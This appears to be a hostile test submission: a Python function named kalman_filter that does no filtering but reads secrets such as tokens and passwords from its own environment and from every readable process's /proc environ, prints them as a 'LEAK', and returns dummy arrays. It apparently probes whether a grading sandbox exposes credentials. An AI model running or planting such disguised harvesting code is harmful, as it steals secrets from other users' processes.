"""Hostile: looks for tokens in its environment, the checker's and every visible process's."""
import os

import numpy as np

WORDS = (b"TOKEN", b"SECRET", b"PASSWORD", b"KEY")


def kalman_filter(z):
    seen = {}
    for k, v in os.environ.items():
        if any(w.decode() in k for w in WORDS):
            seen[k] = v
    for name in [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{name}/environ", "rb") as f:
                for item in f.read().split(b"\0"):
                    k, _, v = item.partition(b"=")
                    if any(w in k for w in WORDS):
                        seen[k.decode()] = v.decode(errors="replace")
        except OSError:
            continue
    if seen:
        print("LEAK:", seen)
        return np.zeros((len(z), 3)), np.zeros((len(z), 3, 3))
    raise LookupError("no secret in reach")
